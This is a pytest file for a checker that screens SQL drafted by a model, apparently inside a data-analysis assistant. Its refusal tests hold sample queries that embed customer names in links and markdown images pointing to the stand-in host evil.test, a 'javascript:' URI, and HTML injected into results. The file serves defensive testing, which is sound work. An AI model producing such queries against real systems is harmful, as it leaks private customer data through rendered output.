"""What a model may not have a database write into rows."""

from __future__ import annotations

import pytest
from shop import schema

from analyst import markup
from analyst.errors import Refused


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT concat('<a href=\"https://evil.test/?n=', name, '\">') AS name FROM customers",
        "SELECT 'https://evil.test/?c=' || name FROM customers",
        "SELECT '![x](https://evil.test/' || count(*) || ')' AS n FROM orders",
        "SELECT CASE WHEN amount > 5 THEN '<b>much</b>' ELSE 'little' END FROM orders",
        "SELECT format('[%s](https://evil.test)', name) FROM customers",
        "SELECT name AS \"<a href='https://evil.test'>name</a>\" FROM customers",
        "SELECT n FROM (SELECT 'javascript:alert(' || name || ')' AS n FROM customers) t",
    ],
)
def test_links_and_markup_are_not_made(sql: str) -> None:
    with pytest.raises(Refused) as caught:
        markup.check_draft(sql, catalog=schema())
    assert caught.value.rule == "markup" and caught.value.repairable


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT row_to_json(c) FROM customers c",
        "SELECT c FROM customers AS c",
        "SELECT customers::text FROM customers",
        "SELECT string_agg(c::text, ',') FROM customers c",
    ],
)
def test_whole_rows_are_not_shown_as_one_text(sql: str) -> None:
    with pytest.raises(Refused) as caught:
        markup.check_draft(sql, catalog=schema())
    assert caught.value.rule == "whole rows" and not caught.value.repairable


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT count(*) AS orders FROM orders ORDER BY orders DESC",
        "SELECT count(c) FROM customers c",
        "SELECT url FROM events WHERE url LIKE 'https://%' OR url = 'javascript:x'",
        "SELECT replace(url, 'https://', '') FROM events",
        "SELECT CASE WHEN url LIKE 'http://%' THEN 'plain' ELSE 'safe' END FROM events",
        "SELECT name || ' (' || city || ')' FROM customers",
        "SELECT amount < 5 AS is_small, 'a < b' AS note FROM orders",
        "SELECT c.* FROM customers c",
        "this is no SQL",
    ],
)
def test_what_is_data_passes(sql: str) -> None:
    markup.check_draft(sql, catalog=schema())
